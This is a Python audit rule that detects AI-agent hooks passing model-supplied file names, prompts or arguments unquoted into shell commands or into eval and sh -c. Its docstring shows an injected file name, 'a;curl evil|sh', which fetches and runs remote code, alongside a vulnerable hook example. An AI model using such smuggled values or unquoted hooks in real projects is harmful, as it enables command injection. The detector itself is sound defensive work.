"""A hook puts text from the agent into a shell command.

## Why

File names, prompts and arguments come from the model, and the model repeats what it read. Without quotes, or inside
`eval` and `sh -c`, they are not data but program: a file called `a;curl evil|sh` runs.

## Example

```json
{ "hooks": { "PostToolUse": [{ "hooks": [{ "type": "command", "command": "prettier --write $CLAUDE_FILE_PATHS" }] }] } }
```

## Fix

Read the hook's JSON from standard input in a script, and pass values as arguments: `"$file"` in double quotes,
never `eval`.

## Limits

Quotes are counted, not parsed; here-documents are not looked into.
"""

import re
from collections.abc import Iterator

from nucleus.audit.model import Confidence, Finding, Rule, Severity
from nucleus.audit.project import Project

RULE = Rule("hook-shell-text", "the agent's text in a shell command", Severity.HIGH, Confidence.MEDIUM)
_GIVEN = re.compile(
    r"\$\{?(?:CLAUDE_(?:TOOL_INPUT|TOOL_ARGS|FILE_PATHS?|TOOL_FILE_PATH|TOOL_INPUT_FILE_PATH|NOTIFICATION|PROMPT|USER_PROMPT)|TOOL_INPUT|GEMINI_TOOL_\w+|CURSOR_\w*(?:FILE|COMMAND|PROMPT)\w*|FILE_PATHS?|ARGUMENTS)\b[^}\s\"']*\}?"
)


def check(project: Project) -> Iterator[Finding]:
    """Yield hooks in which a variable from the agent stands outside of quotes, or inside of eval."""
    for hook in project.hooks:
        text = hook.command
        for match in _GIVEN.finditer(text):
            evaluated = re.search(r"\b(?:eval|(?:ba|z|da)?sh\s+-\w*c)\b", text[: match.start()]) is not None
            tested = re.search(r"\[\[[^\]]*$", text[: match.start()]) is not None
            if evaluated or (not _quoted(text, match.start()) and not tested):
                yield RULE.at(
                    hook.source,
                    hook.node.start,
                    hook.node.end,
                    f"{match[0]} comes from the agent and is read as shell text in the {hook.event} hook",
                    subject=f"{hook.event} {match[0]}",
                )
                break


def _quoted(text: str, at: int) -> bool:
    """Whether a place in shell text stands inside of double quotes."""
    double = single = False
    index = 0
    while index < at:
        char = text[index]
        if char == "\\":
            index += 2
            continue
        if char == '"' and not single:
            double = not double
        elif char == "'" and not double:
            single = not single
        index += 1
    return double
